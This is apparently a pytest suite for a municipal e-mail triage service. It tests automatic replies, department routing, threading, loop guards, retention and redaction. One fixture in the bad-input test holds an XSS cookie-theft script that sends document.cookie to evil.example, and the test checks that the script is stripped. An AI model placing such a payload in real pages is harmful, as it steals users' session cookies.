"""Intake → triage → console case → reply in the thread, against a real SMTP server (aiosmtpd), the
real app on a temporary database, the real redactor and the trained model. Bad input included."""

from __future__ import annotations

from email.message import EmailMessage

from sqlalchemy import select

from tests.conftest import login
from tests.mail.conftest import build


def _intake(app, *raws):
    from web.services import mail as svc

    with app.app_context():
        return svc.intake(svc.municipality_for("fjordvik"), list(raws))


def _items(app):
    from web.extensions import db
    from web.mail_models import MailItem

    with app.app_context():
        return [(i.direction, i.action, i.department, i.auto_reply, i.reason, i.deliveries, i.case_id)
                for i in db.session.scalars(select(MailItem).order_by(MailItem.id))]


def test_routine_question_is_answered_automatically_in_the_thread(mail_app, smtp_sink):
    raw = build("Hei! Når er biblioteket åpent på lørdag?\n\nMvh\nKari", "Bibliotek", message_id="<q1@example.org>")
    [result] = _intake(mail_app, raw)
    assert result["status"] == "answer" and result["auto_reply"] is True
    [sent] = smtp_sink.messages
    assert sent["To"] == "kari.nordmann@example.org"
    assert sent["In-Reply-To"] == "<q1@example.org>" and "<q1@example.org>" in sent["References"]
    assert sent["Auto-Submitted"] == "auto-replied" and sent["Subject"] == f"Re: Bibliotek [#{result['case_id']}]"
    assert "fjordvik" in sent.get_content().lower()
    assert "**" not in sent.get_content(), "the library article's Markdown bold was mailed as asterisks"
    from web.extensions import db
    from web.models import Case, TransparencyRecord

    with mail_app.app_context():
        case = db.session.get(Case, result["case_id"])
        assert case.conversation.channel == "mail" and case.status == "closed" and case.department == "culture"
        record = db.session.scalars(select(TransparencyRecord).where(TransparencyRecord.channel == "mail")).one()
        assert record.route == "answer" and "library" in record.reason and "automatically" in record.reason


SERVICE = ("service@fjordvik.example", "demo-service")  # the culture department's caseworker in the demo


def _listed(client, case_id: int, status: str | None = None) -> bool:
    page = client.get("/console/" + (f"?status={status}" if status else "")).get_data(as_text=True)
    return f'/console/cases/{case_id}"' in page


def test_an_automatically_answered_mail_is_not_left_in_the_open_queue(mail_app, smtp_sink):
    """Nothing is left to do on a mail the automatic reply answered: the caseworker's open queue (the
    default list) does not show it, "Closed" does; the resident writing again in the thread reopens it."""
    [result] = _intake(mail_app, build("Hei! Når er biblioteket åpent på lørdag?\n\nMvh\nKari", "Bibliotek",
                                       message_id="<open1@example.org>"))
    assert result["auto_reply"] is True
    case_id = result["case_id"]
    client = mail_app.test_client()
    login(client, *SERVICE)
    assert not _listed(client, case_id) and not _listed(client, case_id, "open")
    assert _listed(client, case_id, "closed") and _listed(client, case_id, "all")

    [ours] = smtp_sink.messages
    [again] = _intake(mail_app, build("Takk! Men er det åpent på søndag også?", "Re: Bibliotek",
                                      message_id="<open2@example.org>", In_Reply_To=ours["Message-ID"],
                                      References=f"<open1@example.org> {ours['Message-ID']}"))
    assert again["case_id"] == case_id
    assert _listed(client, case_id) and not _listed(client, case_id, "closed")
    page = client.get(f"/console/cases/{case_id}?lang=en").get_data(as_text=True)
    assert "Reopened: the resident wrote again." in page


def test_automatically_answered_mail_cases_left_open_are_closed_once(mail_app, smtp_sink):
    """`tinget mail close-auto-answered`: cases the automatic reply answered before it closed them leave the
    open queue; one a caseworker replied to, or an ordinary answered case, stays as it was."""
    from datetime import timedelta

    from web.cli import cli
    from web.extensions import db
    from web.models import Case

    [auto] = _intake(mail_app, build("Hei! Når er biblioteket åpent på lørdag?", "Bibliotek",
                                     message_id="<old1@example.org>"))
    [routed] = _intake(mail_app, build("Hei\n\nJeg vil klage på vedtaket om bostøtte jeg fikk i går.\n\nMvh\nPer",
                                       "Klage", message_id="<old2@example.org>", sender="per@example.org"))
    with mail_app.app_context():  # as the automatic reply left its case before: answered, open
        case = db.session.get(Case, auto["case_id"])
        case.status, case.closed_at = "answered", None
        db.session.commit()
        replied_at = case.first_reply_at
    client = mail_app.test_client()
    login(client, "admin@fjordvik.example", "demo-admin")
    assert _listed(client, auto["case_id"])
    page = client.get(f"/console/cases/{routed['case_id']}").get_data(as_text=True)
    from tests.conftest import csrf_token

    client.post(f"/console/cases/{routed['case_id']}/reply",
                data={"text": "Vi ser på klagen din.", "csrf_token": csrf_token(page)})

    runner = mail_app.test_cli_runner()
    out = runner.invoke(cli, ["mail", "close-auto-answered", "--dry-run"]).output
    assert "1 automatically answered mail cases would be closed." in out
    assert _listed(client, auto["case_id"])
    assert "1 automatically answered mail cases were closed." in runner.invoke(cli, ["mail", "close-auto-answered"]).output
    assert "0 automatically" in runner.invoke(cli, ["mail", "close-auto-answered"]).output, "once"
    assert not _listed(client, auto["case_id"]) and _listed(client, auto["case_id"], "closed")
    assert _listed(client, routed["case_id"], "answered"), "a caseworker's answered case stays open"
    with mail_app.app_context():
        case = db.session.get(Case, auto["case_id"])
        assert abs(case.closed_at - replied_at) < timedelta(seconds=5)  # closed as of the automatic reply


def test_own_case_is_routed_to_the_department_and_the_caseworker_replies_in_the_thread(mail_app, smtp_sink):
    raw = build("Hei\n\nVi søkte om barnehageplass for datteren vår i mars, men har ikke fått svar. "
                "Hvor langt har søknaden min kommet?\n\nMvh\nKari Nordmann\nStorgata 5", "Søknad barnehage",
                message_id="<q2@example.org>")
    [result] = _intake(mail_app, raw)
    assert result["status"] == "route" and not smtp_sink.messages
    client = mail_app.test_client()
    login(client, "skole@fjordvik.example", "demo-skole")
    page = client.get("/console/").get_data(as_text=True)
    assert "barnehage" in page.lower() or str(result["case_id"]) in page
    from web.extensions import db
    from web.models import Case, User
    from web.services import cases

    with mail_app.app_context():
        case = db.session.get(Case, result["case_id"])
        assert case.department == "education" and "Storgata 5" not in case.conversation.messages[0].text
        user = db.session.scalars(select(User).where(User.email == "skole@fjordvik.example")).one()
        cases.reply(case, user, "Hei! Søknaden er under behandling, du får svar innen 14 dager.")
    [sent] = smtp_sink.messages
    assert sent["In-Reply-To"] == "<q2@example.org>" and sent["Auto-Submitted"] is None
    assert "under behandling" in sent.get_content()
    # the resident answers in the same thread: same case, no new one
    reply = build("Takk! Da venter vi.", "Re: Søknad barnehage", message_id="<q3@example.org>",
                  In_Reply_To=sent["Message-ID"], References=f"<q2@example.org> {sent['Message-ID']}")
    [again] = _intake(mail_app, reply)
    assert again["case_id"] == result["case_id"] and again["status"] == "route"


def test_duplicate_delivery_makes_no_second_case(mail_app, smtp_sink):
    raw = build("Hva koster SFO for en heltidsplass?", "SFO", message_id="<dup@example.org>")
    first = _intake(mail_app, raw)
    second = _intake(mail_app, raw, raw)
    assert [r["status"] for r in second] == ["duplicate", "duplicate"]
    rows = _items(mail_app)
    assert len([r for r in rows if r[0] == "in"]) == 1 and rows[0][5] == 3 and rows[0][6] == first[0]["case_id"]


def test_auto_reply_loop_is_broken(mail_app, smtp_sink):
    _intake(mail_app, build("Når åpner svømmehallen på søndag?", "Svømmehall", message_id="<l1@example.org>",
                            sender="ola@example.org"))
    assert len(smtp_sink.messages) == 1
    ours = smtp_sink.messages[0]
    # the resident's mailbox answers our reply with its own auto-reply, and then again
    for n in range(2):
        ooo = build("Jeg er på ferie til 10. august og leser ikke e-post.", "Automatisk svar: Re: Svømmehall",
                    message_id=f"<ooo{n}@example.org>", sender="ola@example.org", Auto_Submitted="auto-replied",
                    In_Reply_To=ours["Message-ID"])
        [r] = _intake(mail_app, ooo)
        assert r["status"] == "set_aside"
    # an auto-responder without headers that keeps asking: still no second automatic reply today
    _intake(mail_app, build("Når åpner svømmehallen på søndag?", "Svømmehall", message_id="<l2@example.org>",
                            sender="ola@example.org"))
    assert len(smtp_sink.messages) == 1
    assert any("loop guard" in r[4] for r in _items(mail_app))


def test_bad_input_is_stored_with_a_reason_and_nothing_crashes(mail_app, smtp_sink):
    malformed = (b"From: per@example.org\r\nSubject: hjelp\r\nMessage-ID: <bad1@example.org>\r\n"
                 b"Content-Type: multipart/mixed; boundary=\"nope\"\r\n\r\nJeg har f\xc3\xa5tt feil faktura p\xc3\xa5 "
                 b"renovasjon, kan dere rette den?\r\n")
    charset = (b"From: per@example.org\r\nSubject: SFO\r\nMessage-ID: <bad2@example.org>\r\n"
               b"Content-Type: text/plain; charset=x-unknown-8\r\n\r\nHva koster SFO p\xe5 Fjordvik skole?\r\n")
    big = EmailMessage()
    big["From"], big["Subject"], big["Message-ID"] = "per@example.org", "Dokumenter", "<bad3@example.org>"
    big.set_content("Her er lønnsslippene dere ba om til søknaden min om bostøtte.")
    big.add_attachment(b"%PDF" + b"\0" * (20 * 1024 * 1024), maintype="application", subtype="pdf", filename="lonn.pdf")
    html = build("<html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
                 "<p>Hei! Når er biblioteket åpent på lørdag?</p></body></html>", "Bibliotek", html=True,
                 message_id="<bad4@example.org>", sender="eva@example.org")
    results = _intake(mail_app, malformed, charset, big.as_bytes(), html)
    assert [r["status"] for r in results] == ["route", "answer", "route", "answer"]
    assert results[1]["auto_reply"] is False  # a mail we could not read cleanly is never answered automatically
    from web.extensions import db
    from web.mail_models import MailItem

    with mail_app.app_context():
        items = {i.message_id: i for i in db.session.scalars(select(MailItem))}
        assert any(p.startswith("malformed") for p in items["bad1@example.org"].problems)
        assert "unknown_charset:x-unknown-8" in items["bad2@example.org"].problems
        assert items["bad3@example.org"].attachments[0]["size"] > 20_000_000
        assert "evil" not in items["bad4@example.org"].case.conversation.messages[0].text


def test_set_aside_mail_is_kept_for_review_and_can_be_released(mail_app, smtp_sink):
    news = build("Høstens turer! Meld deg av: https://turlag.example/avmeld", "Nyhetsbrev",
                 sender="nyhetsbrev@turlag.example", List_Unsubscribe="<https://turlag.example/avmeld>")
    [r] = _intake(mail_app, news)
    assert r["status"] == "set_aside" and not smtp_sink.messages
    from web.extensions import db
    from web.mail_models import MailItem
    from web.models import User
    from web.services import mail as svc

    with mail_app.app_context():
        item = db.session.scalars(select(MailItem)).one()
        assert item.keep_until is not None and "Høstens turer" in item.text and "List-Unsubscribe" in item.reason
        admin = db.session.scalars(select(User).where(User.role == "admin")).first()
        case = svc.release(item, admin, "culture")
        assert case.department == "culture"
        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
        assert stats["overrides"]["action"] == 1


def test_analytics_shares_and_department_overrides(mail_app, smtp_sink):
    _intake(mail_app,
            build("Når er biblioteket åpent på lørdag?", "Bibliotek", sender="a@example.org"),
            build("Jeg klager på vedtaket om avslag på kommunal bolig.", "Klage", sender="b@example.org"),
            build("Out of office", "Automatic reply: x", sender="c@example.org", Auto_Submitted="auto-replied"))
    from web.extensions import db
    from web.mail_models import MailItem
    from web.models import User
    from web.services import cases
    from web.services import mail as svc

    with mail_app.app_context():
        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
        assert stats["counts"] == {"answer": 1, "route": 1, "set_aside": 1}
        assert stats["share"]["answer"] == 33.3 and stats["per_department"]["culture"]["share_answered"] == 100.0
        routed = db.session.scalars(select(MailItem).where(MailItem.action == "route")).one()
        admin = db.session.scalars(select(User).where(User.role == "admin")).first()
        cases.reassign(routed.case, admin, "service_desk", "wrong queue")
        stats = svc.triage_stats(svc.municipality_for("fjordvik"))
        assert stats["overrides"]["department"] == 1 and stats["overrides"]["rate"] == 33.3


def test_without_a_model_mail_goes_to_the_service_desk(tmp_path, smtp_sink):
    from tests.conftest import make_app

    empty = tmp_path / "no-models"
    empty.mkdir()
    app = make_app(tmp_path, SMTP_HOST="127.0.0.1", SMTP_PORT=smtp_sink.port, MODEL_DIR=str(empty))
    [r] = _intake(app, build("Når er biblioteket åpent på lørdag?", "Bibliotek"))
    assert r["status"] == "route" and r["case_id"] and not smtp_sink.messages
    assert "intents unavailable" in _items(app)[0][4]


def test_mail_import_command_and_retention(mail_app, smtp_sink, tmp_path):
    from datetime import timedelta

    from web.cli import cli
    from web.extensions import db
    from web.mail_models import MailItem
    from web.services import retention

    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "a.eml").write_bytes(build("Hva koster SFO per måned?", "SFO", message_id="<imp1@example.org>"))
    (folder / "b.eml").write_bytes(build("Out of office until Monday.", "Automatic reply: SFO",
                                         message_id="<imp2@example.org>", Auto_Submitted="auto-replied"))
    runner = mail_app.test_cli_runner()
    out = runner.invoke(cli, ["mail", "import", str(folder)]).output
    assert "answer: 1" in out and "set_aside: 1" in out, out
    out = runner.invoke(cli, ["mail", "import", str(folder / "a.eml")]).output
    assert "duplicate: 1" in out, out
    with mail_app.app_context():
        later = db.session.scalars(select(MailItem).where(MailItem.action == "set_aside")).one().keep_until + timedelta(days=1)
        counts = retention.run(now=later)
        assert counts["mail_items"] >= 1
        assert [i.action for i in db.session.scalars(select(MailItem))] == ["answer"]


def test_a_mail_with_control_characters_becomes_a_case_without_them(app, monkeypatch):
    """Stored without the NUL (Postgres refuses it; tests/scale has the same mail on Postgres)."""
    from tests.mail.test_parse import NUL_MAIL
    from web.extensions import db
    from web.mail_models import MailItem
    from web.models import Case, Message
    from web.services import mail as svc

    def no_nlu():
        raise RuntimeError("no NLU in this test")

    monkeypatch.setattr(svc, "_nlu", no_nlu)
    [result] = _intake(app, NUL_MAIL)
    assert result["status"] == "route"
    with app.app_context():
        item = db.session.scalars(select(MailItem)).one()
        case = db.session.get(Case, result["case_id"])
        [msg] = db.session.scalars(select(Message).where(Message.conversation_id == case.conversation_id)).all()
        stored = [item.subject, item.message_id, msg.text, *(a["name"] for a in item.attachments)]
        assert not [t for t in stored if "\x00" in t or "\x01" in t], stored
        assert msg.text == "Søknad om SFO\n\nHva koster SFO[0m?\nTakk."


def test_a_mail_in_the_words_of_a_local_article_is_read_in_its_language(mail_app, smtp_sink):
    """Mail intake detects the language with the municipality's own article words, as the chat does
    (tests/kb/test_kb_lexicon.py): "Jokiniemen kirpputori" is Finnish to the detector but no word of the
    repository's lexicon; once a published local article has those words, the case is Finnish."""
    from kb.models import Article
    from tinget.models import Municipality
    from web.extensions import db
    from web.models import Case
    from web.services import mail as svc

    words = "Jokiniemen kirpputori"

    def case_lang(message_id: str) -> str:
        with mail_app.app_context():
            [result] = svc.intake(svc.municipality_for("fjordvik"), [build(words, words, message_id=message_id)])
            return db.session.get(Case, result["case_id"]).conversation.lang

    assert case_lang("<before@example.org>") == "nb"  # the municipality's default language
    with mail_app.app_context():
        m = db.session.scalar(select(Municipality).where(Municipality.slug == "fjordvik"))
        db.session.add(Article(municipality_id=m.id, intent="flea_market", lang="fi", status="published",
                               title="Kirpputori Jokiniemessä", body="Jokiniemen kirpputori on auki lauantaisin."))
        db.session.commit()
    assert case_lang("<after@example.org>") == "fi"


def test_transparency_log_shows_triage_decisions_in_the_readers_language(mail_app, smtp_sink):
    """The log page showed triage's English sentences ("route to education (...)") in a Finnish UI: it
    shows the action in the reader's language, the stored sentence one click away; the export keeps it."""
    import json
    import re

    _intake(mail_app, build("Hei! Når er biblioteket åpent på lørdag?\n\nMvh\nKari", "Bibliotek"),
            build("Hei\n\nVi søkte om barnehageplass for datteren vår i mars, men har ikke fått svar. "
                  "Hvor langt har søknaden min kommet?\n\nMvh\nKari Nordmann", "Søknad barnehage"),
            build("Høstens turer! Meld deg av: https://turlag.example/avmeld", "Nyhetsbrev",
                  sender="nyhetsbrev@turlag.example", List_Unsubscribe="<https://turlag.example/avmeld>"))
    from web.extensions import db
    from web.models import TransparencyRecord

    with mail_app.app_context():
        stored = [(r.route, r.reason) for r in db.session.scalars(
            select(TransparencyRecord).order_by(TransparencyRecord.id.desc()))]
    assert [route for route, _ in stored] == ["set_aside", "handoff", "answer"]
    client = mail_app.test_client()
    login(client, "admin@fjordvik.example", "demo-admin")
    html = client.get("/admin/transparency?lang=fi").get_data(as_text=True)
    table = html[html.index("<tbody>"):html.index("</tbody>")]
    shown = re.sub(r"<[^>]+>", " ", re.sub(r"</summary>.*?</details>", "", table, flags=re.S))
    assert "Vastattu automaattisesti (" in shown and "Ohjattu: " in shown and "Siirretty sivuun (Uutiskirje)" in shown
    for english in ("route to", "set aside", "answer ", "handoff", "set_aside", "(detected)", "confidence"):
        assert english not in shown, english
    assert table.count("<details>") == 3  # each stored sentence one click away
    rows = json.loads(client.get("/admin/transparency/export.json?lang=fi").get_data(as_text=True))
    assert [(r["route"], r["reason"]) for r in rows] == stored


def test_a_planned_automatic_reply_without_an_article_goes_to_a_person_and_says_so(mail_app, smtp_sink):
    """The library topic is answered automatically, but its article is gone (in every language): nothing is
    sent or drafted, so the transparency log must not say "Answered automatically" (it did: the stored
    reason still read "sent automatically"), and the mail is in the culture department's open queue as a
    routed mail."""
    from kb.models import Article
    from web.extensions import db
    from web.models import Case, TransparencyRecord

    with mail_app.app_context():
        for article in db.session.scalars(select(Article).where(Article.intent == "library")):
            db.session.delete(article)
        db.session.commit()
    [result] = _intake(mail_app, build("Hei! Når er biblioteket åpent på lørdag?\n\nMvh\nKari", "Bibliotek",
                                       message_id="<noart@example.org>"))
    assert smtp_sink.messages == [] and result["auto_reply"] is False and result["status"] == "route"
    case_id = result["case_id"]
    with mail_app.app_context():
        case = db.session.get(Case, case_id)
        assert case.status == "new" and case.department == "culture" and case.reason == "mail_route"
        assert not [d for d in case.drafts if d.rank == 0 and "article:" in str(d.sources)]
        record = db.session.scalars(select(TransparencyRecord).where(TransparencyRecord.channel == "mail")).one()
        assert record.route == "handoff" and "sent automatically" not in record.reason
    [item] = [i for i in _items(mail_app) if i[0] == "in"]
    assert item[1] == "route" and "sent automatically" not in item[4]

    client = mail_app.test_client()
    login(client, *SERVICE)
    assert _listed(client, case_id)  # in the caseworker's open queue
    page = client.get(f"/console/cases/{case_id}?lang=en").get_data(as_text=True)
    assert "E-mail routed to the department" in page
    admin = mail_app.test_client()
    login(admin, "admin@fjordvik.example", "demo-admin")
    log_page = admin.get("/admin/transparency?lang=en").get_data(as_text=True)
    assert "Answered automatically" not in log_page and "Routed to" in log_page


def test_an_answer_without_thread_headers_finds_its_case_by_the_subjects_case_number(mail_app, smtp_sink):
    """A resident's mail program that drops In-Reply-To/References (a new mail with the old subject, some
    webmail) opened a new case for the answer to a caseworker's reply. Our replies carry the case number
    in the subject ("Re: Søknad barnehage [#12]"); an answer with it from the same sender joins the case.
    From another sender, or with another municipality's number, the tag joins nothing."""
    from web.extensions import db
    from web.models import Case, User
    from web.services import cases

    raw = build("Hei\n\nHvor langt har søknaden min om barnehageplass kommet? Vi søkte i mars.\n\nMvh\nKari",
                "Søknad barnehage", message_id="<t1@example.org>", sender="kari@example.org")
    [first] = _intake(mail_app, raw)
    assert first["status"] == "route"
    with mail_app.app_context():
        case = db.session.get(Case, first["case_id"])
        user = db.session.scalars(select(User).where(User.email == "skole@fjordvik.example")).one()
        cases.reply(case, user, "Hei! Søknaden er under behandling.")
    [sent] = smtp_sink.messages
    assert sent["Subject"] == f"Re: Søknad barnehage [#{first['case_id']}]"
    answer = build("Takk, når får vi svar?", sent["Subject"], message_id="<t2@example.org>", sender="kari@example.org")
    [again] = _intake(mail_app, answer)
    assert again["case_id"] == first["case_id"]
    stranger = build("Hva skjer med denne saken?", sent["Subject"], message_id="<t3@example.org>",
                     sender="ola@example.org")
    [other] = _intake(mail_app, stranger)
    assert other.get("case_id") != first["case_id"]
    with mail_app.app_context():  # a second reply in the case keeps one tag
        case = db.session.get(Case, first["case_id"])
        user = db.session.scalars(select(User).where(User.email == "skole@fjordvik.example")).one()
        cases.reply(case, user, "Du får svar innen 14 dager.")
    assert smtp_sink.messages[-1]["Subject"] == f"Re: Søknad barnehage [#{first['case_id']}]"


def test_the_original_holds_the_signature_the_resident_gave_to_be_reached_at(mail_app, smtp_sink):
    """A caseworker who wants to call back found no phone number: the mail's signature (name, phone,
    address) was in neither the case text nor the encrypted original. The original (shown on request,
    audited) now holds it; the case text stays without it."""
    from tests.conftest import csrf_token

    raw = build("Hei\n\nVi har fått en regning for feiing som vi mener er feil. Kan noen ringe meg?\n\nMvh\n"
                "Kari Nordmann\nTlf 412 34 567\nStorgata 5, 5999 Fjordvik", "Regning feiing",
                message_id="<sig1@example.org>")
    [result] = _intake(mail_app, raw)
    client = mail_app.test_client()
    login(client, "admin@fjordvik.example", "demo-admin")
    page = client.get(f"/console/cases/{result['case_id']}").get_data(as_text=True)
    assert "412 34 567" not in page and "Kari Nordmann" not in page
    shown = client.post(f"/console/cases/{result['case_id']}/original",
                        data={"csrf_token": csrf_token(page)}).get_data(as_text=True)
    assert "Kan noen ringe meg?" in shown and "Tlf 412 34 567" in shown and "Kari Nordmann" in shown
